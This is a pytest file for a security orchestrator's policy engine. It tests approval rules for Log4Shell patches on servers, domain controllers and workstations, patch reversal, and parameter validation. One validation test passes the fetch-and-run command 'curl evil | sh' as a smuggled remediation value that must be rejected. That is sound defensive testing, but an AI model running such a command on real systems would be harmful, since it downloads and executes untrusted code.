"""Patching under the policy: a patch or its revert on a production server or a domain
controller always needs approval, whatever the risk the weights give; on a workstation the score
decides as for any action; the approval card names the factors."""

from __future__ import annotations

import pytest

from orchestrator.policy.evaluate import DecisionOutcome, evaluate
from orchestrator.policy.model import PolicyDocument, load_policy
from tests.orchestrator.policy.policy_factories import facts, with_base
from tools.actions import ActionKind, Patch, Unpatch
from tools.models import AssetKind, Criticality

LOG4SHELL = Patch(
    target="WEB01", cve="CVE-2021-44228", remediation="mitigation:log4j-remove-jndilookup"
)


@pytest.mark.parametrize("kind", [AssetKind.SERVER, AssetKind.DOMAIN_CONTROLLER])
@pytest.mark.parametrize("action", [LOG4SHELL, LOG4SHELL.inverse()])
def test_patching_a_server_or_dc_needs_approval_even_at_zero_risk(
    kind: AssetKind, action: Patch | Unpatch
) -> None:
    packaged = load_policy(None)
    # every weight at zero: only the always-approve rule can ask for a human
    policy = with_base(action.kind, 0, always_approve=packaged.always_approve)
    decision = evaluate(policy, action, facts(asset_kind=kind, criticality=Criticality.LOW), 1.0)
    assert decision.outcome is DecisionOutcome.NEEDS_APPROVAL
    assert decision.required_approvers >= 1
    assert f"{action.kind.value} on a {kind.value}" in decision.reasons[0]


def test_without_the_rule_a_low_risk_server_patch_would_run_unattended() -> None:
    # the rule, not the numbers, is what holds the server patch: the same policy without it
    policy = with_base(ActionKind.PATCH, 0)
    server = facts(asset_kind=AssetKind.SERVER, criticality=Criticality.LOW)
    assert evaluate(policy, LOG4SHELL, server, 1.0).outcome is DecisionOutcome.ALLOW


def test_packaged_policy_scores_patches_with_named_factors() -> None:
    policy = load_policy(None)
    workstation = facts(asset_kind=AssetKind.WORKSTATION, criticality=Criticality.MEDIUM)
    allowed = evaluate(policy, LOG4SHELL, workstation, 0.9)
    assert (allowed.outcome, allowed.risk) == (DecisionOutcome.ALLOW, 40)
    assert [f.name for f in allowed.factors] == [
        "action patch",
        "criticality medium",
        "verdict confidence 0.90",
    ]

    dc = facts(asset_kind=AssetKind.DOMAIN_CONTROLLER, criticality=Criticality.MEDIUM)
    critical = evaluate(policy, LOG4SHELL, dc, 0.9)
    assert critical.outcome is DecisionOutcome.NEEDS_APPROVAL
    assert critical.required_approvers == 2
    assert "asset kind domain_controller" in [f.name for f in critical.factors]


def test_a_patch_is_undone_by_unpatch_unless_its_fix_cannot_be_reverted() -> None:
    undo = LOG4SHELL.inverse()
    assert isinstance(undo, Unpatch) and (undo.cve, undo.remediation) == (
        LOG4SHELL.cve,
        LOG4SHELL.remediation,
    )
    assert undo.inverse() == LOG4SHELL
    assert LOG4SHELL.model_copy(update={"reversible": False}).inverse() is None


def test_patch_parameters_are_validated_ids() -> None:
    with pytest.raises(ValueError, match="cve"):
        Patch(target="WEB01", cve="log4shell", remediation="KB5008212")
    with pytest.raises(ValueError, match="remediation"):
        Patch(target="WEB01", cve="CVE-2021-44228", remediation="curl evil | sh")


def test_a_policy_written_before_patching_existed_still_loads() -> None:
    # recorded workflow inputs (histories, workflows in flight) carry such policies: refusing them
    # would fail every replay; they get the packaged weights of the kinds added since
    packaged = load_policy(None).model_dump(mode="json")
    for kind in ("patch", "unpatch"):
        del packaged["weights"]["base"][kind]
    del packaged["always_approve"]
    older = PolicyDocument.model_validate(packaged)
    assert older.weights.base[ActionKind.PATCH] == 30
    assert older.weights.base[ActionKind.UNPATCH] == 20
    assert older.always_approve == {}
